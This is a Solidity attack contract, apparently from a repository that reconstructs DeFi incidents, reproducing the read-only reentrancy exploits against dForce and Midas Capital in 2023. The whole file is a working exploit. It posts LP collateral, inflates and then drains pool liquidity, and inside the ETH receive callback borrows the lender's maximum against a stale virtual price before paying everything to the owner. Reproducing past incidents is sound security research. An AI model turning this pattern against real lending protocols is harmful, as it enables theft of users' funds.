// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "../interfaces/IERC20.sol";
import {ROReentrancyPool, ROReentrancyLender} from "../incidents/ROReentrancyPool.sol";

/// @title ROReentrancyAttacker
/// @notice Read-only reentrancy through a pool's virtual price (dForce 2023,
/// Midas Capital 2023): post LP collateral, add a large position to the pool,
/// remove it, and borrow from the lender inside the ETH callback, while the
/// pool's virtual price counts coin that is about to leave.
contract ROReentrancyAttacker {
    address public immutable owner;
    ROReentrancyPool public immutable pool;
    ROReentrancyLender public immutable lender;
    IERC20 public immutable coin;
    IERC20 public immutable usd;
    bool private inAttack;

    error NotOwner();

    constructor(ROReentrancyPool pool_, ROReentrancyLender lender_, IERC20 coin_, IERC20 usd_) {
        owner = msg.sender;
        pool = pool_;
        lender = lender_;
        coin = coin_;
        usd = usd_;
    }

    /// @notice One transaction: collateral, add, remove (borrow in the
    /// callback), pay everything to the owner.
    /// @param collateralEth ETH (and as much coin) turned into LP collateral.
    function attack(uint256 collateralEth) external payable {
        if (msg.sender != owner) revert NotOwner();
        coin.approve(address(pool), type(uint256).max);
        pool.approve(address(lender), type(uint256).max);
        uint256 lp = pool.add_liquidity{value: collateralEth}(collateralEth);
        lender.depositCollateral(lp);
        uint256 big = msg.value - collateralEth;
        uint256 bigLp = pool.add_liquidity{value: big}(big);
        inAttack = true;
        pool.remove_liquidity(bigLp);
        inAttack = false;
        usd.transfer(owner, usd.balanceOf(address(this)));
        coin.transfer(owner, coin.balanceOf(address(this)));
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "payout");
    }

    /// @notice The pool's ETH payout: borrow everything the limit allows.
    receive() external payable {
        if (!inAttack) return;
        inAttack = false;
        uint256 limit = lender.borrowLimit(address(this));
        uint256 cash = usd.balanceOf(address(lender));
        lender.borrow(limit < cash ? limit : cash);
    }
}
